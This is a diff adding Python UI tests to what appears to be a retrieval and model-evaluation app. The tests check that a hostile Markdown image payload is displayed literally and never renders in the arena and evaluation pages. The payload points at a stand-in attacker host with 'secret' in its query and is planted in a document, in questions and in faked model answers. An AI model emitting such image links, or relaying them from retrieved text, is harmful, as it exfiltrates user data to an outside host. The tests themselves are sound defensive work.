@@ -12,6 +12,16 @@ from tests.training import trained
 HOSTILE = "![x](https:evil.example?q=secret)"  # no "/": it survives as a file name
 # An image or link that Markdown would act on: "![" or "](" not escaped by a backslash.
 ACTIVE = re.compile(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(")
+# A model's answer stays Markdown (lists, bold, links), but no image in it may load: "![" never.
+IMAGE = re.compile(r"(?<!\\)!(?<!\\)\[")
+
+
+def unsafe(strings: list[str], answer: str) -> list[str]:
+    """The strings with "evil" that Markdown would act on: images anywhere; links too, except
+    in the model's answers (those start with `answer`)."""
+    return [
+        s for s in strings if "evil" in s and (IMAGE if s.startswith(answer) else ACTIVE).search(s)
+    ]
 
 
 def rendered(at) -> list[str]:  # type: ignore[no-untyped-def]
@@ -51,3 +61,58 @@ def test_a_hostile_adapter_name_is_shown_literally_on_the_fine_tune_page(open_pa
     strings = rendered(at)
     assert any("evil" in s for s in strings)
     assert [s for s in strings if "evil" in s and ACTIVE.search(s)] == []
+
+
+def hostile_studio(settings, embeddings) -> None:  # type: ignore[no-untyped-def]
+    """A knowledge base whose only document has a hostile name and hostile text."""
+    from core.ingest import ChunkSettings, UploadedFile, ingest
+    from core.knowledge import KnowledgeStore
+
+    kb = KnowledgeStore(settings, embeddings).create("Policies")
+    text = f"Refunds are possible within 45 days. {HOSTILE}".encode()
+    list(ingest(kb, [UploadedFile(f"{HOSTILE}.txt", text)], ChunkSettings(200, 20)))
+
+
+def test_hostile_questions_answers_and_sources_are_shown_literally_in_the_arena(
+    open_page, fake_model, fake_search
+) -> None:
+    settings = load_settings()
+    hostile_studio(settings, fake_search)
+    trained(settings, HOSTILE)
+    fake_model.replies = [lambda request: f"The answer is {HOSTILE} [1]."]
+    at = open_page("views/arena.py")
+    at.chat_input(key="arena_input").set_value(f"What about {HOSTILE}?").run()
+    assert not at.exception
+    strings = rendered(at)
+    assert sum("evil" in s for s in strings) >= 4  # question, answers, source name, adapter
+    assert any(s.startswith("The answer is") for s in strings)
+    assert unsafe(strings, "The answer is") == []
+
+
+def test_hostile_questions_and_references_are_shown_literally_in_an_evaluation(
+    open_page, fake_model, fake_search
+) -> None:
+    import json
+    import time
+
+    from core import evaluate
+
+    settings = load_settings()
+    hostile_studio(settings, fake_search)
+    fake_model.replies = [lambda request: f"It is {HOSTILE}."]
+    rows = [{"question": f"What is {HOSTILE}?", "reference": HOSTILE, "accepted": [HOSTILE]}] * 2
+    at = open_page("views/evaluate.py")
+    data = "\n".join(json.dumps(row) for row in rows).encode()
+    at.file_uploader[0].set_value([(f"{HOSTILE}.jsonl", data, "application/json")]).run()
+    at.text_input(key="eval_name").set_value(HOSTILE).run()
+    at.button(key="eval_run").click().run()
+    report_id = at.session_state["eval_report_id"]
+    deadline = time.monotonic() + 30
+    while evaluate.is_running(report_id) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    at.run()
+    assert not at.exception
+    strings = rendered(at)
+    assert sum("evil" in s for s in strings) >= 3  # the name, the question, its answers
+    assert any(s.startswith("It is") for s in strings)
+    assert unsafe(strings, "It is") == []
